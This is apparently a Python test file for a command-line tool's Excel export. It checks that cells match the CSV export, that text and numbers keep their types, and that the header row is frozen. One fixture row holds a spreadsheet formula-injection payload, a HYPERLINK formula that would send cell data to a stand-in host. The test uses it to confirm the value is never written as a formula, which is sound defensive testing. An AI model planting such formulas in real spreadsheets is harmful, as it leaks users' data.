#!/usr/bin/env python3
"""`dfnc export KIND FILE --format xlsx`: the workbook is read here as Excel
reads it (the OOXML parts in the zip, with Python's own zipfile and XML, not
the library that wrote it): one sheet of the CSV export's header and rows,
cell for cell; Cyrillic and quotes intact; a name that would be a formula in a
CSV file is a text cell here, and no cell anywhere holds a formula; whole
numbers are numbers; the header row is frozen and filtered; `-` writes to
standard output. (A value past a cell's 32,767 characters: tests/unit/test_xlsx.c.)
Usage: xlsx_test.py DFNC_BINARY   (TAP on stdout)"""
import csv
import io
import json
import os
import re
import subprocess
import sys

from tap import end, ok, scratch
from xlsx_read import read_book

DFNC = os.path.realpath(sys.argv[1])


def dfnc(*args, db='t.db'):
    return subprocess.run([DFNC, '--db', db] + list(args), capture_output=True)


scratch()
with open('orgs.csv', 'w', encoding='utf-8') as f:
    f.write('id,name,country,kind,sme,city,website,description,name_uk\n'
            'org-ua,"ТОВ ""Дніпро Дрон""",UA,company,1,Дніпро,https://dd.example,'
            '"Дрони, РЕБ; ""лапки""",Дніпро Дрон\n'
            'org-f,"=HYPERLINK(""http://x.test/?""&A2,""CV"")",DE,company,0,,,+49 30 000,\n'
            '0042,Leading Zero GmbH,AT,research,0,Wien,,,\n')
r = dfnc('import', 'organisations', 'orgs.csv')
ok(r.returncode == 0, 'organisations imported', r.stderr)

r = dfnc('export', 'organisations', 'orgs.xlsx', '--format', 'xlsx')
ok(r.returncode == 0 and b'orgs.xlsx: 3 organisations' in r.stderr,
   'export --format xlsx exits 0 and counts its rows', r.stderr)
rows, sheet, nsheets = read_book(open('orgs.xlsx', 'rb').read())
csv_rows = list(csv.reader(io.StringIO(dfnc('export', 'organisations', '-').stdout.decode())))
ok(nsheets == 1, 'one sheet', nsheets)
ok([t for _, t in rows[0]] == csv_rows[0], 'the header is the CSV\'s', rows[0])
ok(len(rows) == len(csv_rows) == 4, 'a row per organisation under it', len(rows))


def text_of(cell_list):
    return [t for _, t in cell_list]


by_id = {r[0][1]: r for r in rows[1:]}
ua = by_id.get('org-ua')
ok(ua is not None and ua[1] == ('s', 'ТОВ "Дніпро Дрон"') and ua[7] == ('s', 'Дрони, РЕБ; "лапки"'),
   'Cyrillic, quotes and commas intact, as text', ua)
f = by_id.get('org-f')
ok(f is not None and f[1] == ('s', '=HYPERLINK("http://x.test/?"&A2,"CV")')
   and f[7] == ('s', '+49 30 000'),
   'a formula-like name is a text cell, without the CSV\'s apostrophe', f)
ok('<f>' not in sheet and '<f ' not in sheet, 'no cell holds a formula')
ok(ua[4] == ('n', '1') and by_id['org-f'][4] == ('n', '0'), 'sme is a number', ua[4])
ok('0042' in by_id and by_id['0042'][0] == ('s', '0042'),
   'an id with a leading zero stays text', list(by_id))
for row in rows[1:]:   # every cell as the CSV export has it
    csv_row = next(c for c in csv_rows[1:] if c[0] == row[0][1])
    want = [v[1:] if v.startswith("'") else v for v in csv_row]
    got = text_of(row) + [''] * (len(want) - len(row))
    ok(got == want, 'row %s equals the CSV row' % row[0][1], (got, want))
ok(re.search(r'<pane [^>]*ySplit="1"[^>]*state="frozen"', sheet) is not None,
   'the header row is frozen', sheet[:400])
ok(re.search(r'<autoFilter ref="A1:J4"', sheet) is not None, 'and filtered over every row',
   re.findall(r'<autoFilter[^>]*>', sheet))

# standard output, and the other kinds
r = dfnc('export', 'people', '-', '--format', 'xlsx')
ok(r.returncode == 0 and r.stdout[:2] == b'PK', '- writes the workbook to standard output',
   r.stderr)
ok(read_book(r.stdout)[0][0] and text_of(read_book(r.stdout)[0][0])
   == ['id', 'organisation', 'name', 'email', 'title', 'languages'],
   'an empty people sheet still has its header')

# meetings: a desk list names each person and their organisation, in the
# columns after those older exports had, in the workbook as in the CSV
r = dfnc('demo', '--no-serve', '--people', '50', '--seed', '7', db='demo.db')
ok(r.returncode == 0, 'a small demo forum, scheduled', r.stderr[-400:])
book = dfnc('export', 'meetings', '-', '--format', 'xlsx', db='demo.db').stdout
rows = read_book(book)[0]
csv_rows = list(csv.reader(io.StringIO(dfnc('export', 'meetings', '-', db='demo.db').stdout.decode())))
ok(text_of(rows[0]) == csv_rows[0] == ['id', 'request', 'event', 'start', 'end', 'location', 'people',
                                       'locked', 'names', 'organisations', 'event_name',
                                       'session_name', 'requester_arrived', 'addressee_arrived',
                                       'requester_outcome', 'addressee_outcome'],
   'the meetings header has names and organisations, then the event\'s and session\'s names, '
   'then each side\'s arrival and outcome',
   rows[0])
people = {p['id']: p for p in json.loads(dfnc('export', 'people', '-', '--format', 'json',
                                                            db='demo.db').stdout)}
orgs = {o['id']: o['name'] for o in json.loads(dfnc('export', 'organisations', '-', '--format',
                                                                  'json', db='demo.db').stdout)}
ok(len(rows) == len(csv_rows) > 1, 'a row per meeting', len(rows))

def misnamed(row):
    ids = row[6][1].split(';')
    return (row[8][1] != '; '.join(people[i]['name'] for i in ids)
            or row[9][1] != '; '.join(orgs[people[i]['organisation']] for i in ids))


ok(not [r for r in rows[1:] if misnamed(r)],
   'each meeting names its people and their organisations in the people column\'s order',
   [r for r in rows[1:] if misnamed(r)][:2])

r = dfnc('export', 'organisations', 'x.xlsx', '--format', 'xls')
ok(r.returncode == 2 and b'csv, json or xlsx' in r.stderr, 'an unknown format names the three',
   r.stderr)
end()
